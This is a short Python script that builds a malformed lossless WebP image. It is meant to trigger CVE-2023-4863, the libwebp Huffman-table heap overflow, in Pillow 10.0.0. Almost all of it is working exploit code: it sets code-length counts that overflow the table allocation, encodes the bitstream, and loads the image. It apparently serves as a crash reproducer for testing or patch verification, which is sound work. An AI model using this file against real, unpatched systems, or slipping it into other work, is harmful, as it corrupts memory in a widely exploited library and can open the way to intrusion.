"""Pillow 10.0.0 comes with libwebp 1.3.1, which fills a Huffman table before it knows that the code is valid
(CVE-2023-4863).

The image has five codes; the tables of the first four are as large as a valid code's can be made to be, that of the
fifth is larger, since this code leaves most of its space unused. The table is allocated for the largest valid codes:
2954 entries of 4 bytes.
"""

import io
import struct

from PIL import Image

# How many symbols have a code of each length, from 0 to 15 bits: green with lengths, red, blue, alpha; distance.
GREEN = (0, 1, 1, 0, 1, 0, 1, 0, 0, 57, 37, 33, 17, 1, 1, 130)
COLOUR = (0, 0, 3, 1, 0, 0, 0, 0, 0, 25, 61, 17, 17, 1, 1, 130)
DISTANCE = (0, 0, 0, 1, 4, 0, 1, 0, 0, 3, 0, 3, 0, 2, 3, 23)
# The order in which the format gives the lengths of the code of code lengths.
ORDER = (17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15)


class Bits:
    """A stream of bits, the lowest first."""

    def __init__(self) -> None:
        self.value = 0
        self.length = 0

    def put(self, value: int, length: int) -> None:
        self.value |= value << self.length
        self.length += length

    def to_bytes(self) -> bytes:
        return self.value.to_bytes(self.length // 8 + 1, "little")


def image() -> bytes:
    """A lossless WebP image of one pixel."""
    bits = Bits()
    bits.put(0x2F, 8)
    bits.put(0, 14 + 14 + 1 + 3)  # width - 1, height - 1, no alpha, version
    bits.put(0, 3)  # no transform, no colour cache, one group of codes
    for counts in (GREEN, COLOUR, COLOUR, COLOUR, DISTANCE):
        bits.put(0, 1)
        bits.put(15, 4)
        for symbol in ORDER:
            bits.put(4 if symbol < 16 else 0, 3)
        bits.put(0, 1)
        for length, symbols in enumerate(counts):
            for _ in range(symbols):
                bits.put(int(f"{length:04b}"[::-1], 2), 4)
    data = bits.to_bytes() + bytes(64)
    data += bytes(len(data) % 2)
    chunk = b"VP8L" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


try:
    Image.open(io.BytesIO(image())).load()
except OSError as error:
    print(error)
print("done")
